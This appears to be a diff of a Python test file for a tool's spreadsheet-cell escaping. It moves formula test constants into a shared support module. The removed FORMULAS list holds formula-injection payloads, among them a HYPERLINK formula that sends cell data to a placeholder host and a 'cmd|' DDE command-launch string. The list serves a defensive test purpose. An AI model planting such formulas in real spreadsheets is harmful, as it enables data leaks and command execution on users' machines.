@@ -10,21 +10,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 from support.bases import base_with
 from support.runner import run_sco
+from support.spreadsheets import FORMULAS, NUMBERS_WITH_UNITS
 
 from sco_cli.formats.spreadsheet_cells import FORMULA_STARTS, escape_cell, escape_unquoted_cell
-
-NUMBERS_WITH_UNITS = (
-    *("-41.25", "+1", "-1,234,567.8", "-1 234,5", "-1e5", "+34 %", "+34%", "-0.5\u2030", "-40\xb0C", "-40 °C"),
-    *("-120.5 million USD", "-17 USD/t", "-17\xa0km²", "+3 p.p. year-on-year", "+7 727 258", "-50亿美元", "+5 प्रतिशत"),
-)
-
-FORMULAS = (
-    *("=1+1", "+1+1", "-1-1", "-1*2", "-1/2", "-1^2", "-1&2", "-(1)", "+A1", "-A1", "-1 A1", "-1 USD/A1", "-B:B", "-1:1"),
-    *("+SUM(1)", "-1 SUM(A1)", '=HYPERLINK("http://e.example/?"&A1)', "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "@x", "-"),
-    *("+40 points (+235.3 %)", "-5 to -3 %", "+34 % /A1", "+7 (727) 258", "+7-727-258", "-usd", "+1;2", "-1 -x", "-1 x-"),
-    *(" =1+1", "\xa0=1", "\u3000=1", "\t=1", "\r=1", "\n=1", "-5\n=1+1", "\uff1d1+1", "\uff0b1", "-1 \uff21\uff11", "-1{1}"),
-    *("-1 'x'", '-1 "x"', "-1!x", "-1 #REF", "-1 $A$1", "-1 [x]", "-1_x", "-1~x", "-1<2", "-5G", "-5A1", "-1e5e5"),
-)
 
 numbers = st.sampled_from(["1", "1.5", "1,2", "10%", "1e5"])
 references = st.sampled_from(["A1", "$B$2", "A1:B2", "Sheet1!C3", "R1C1", "x.A1", "rate", "[1]x!A1", "'a b'!A1", "C:C"])
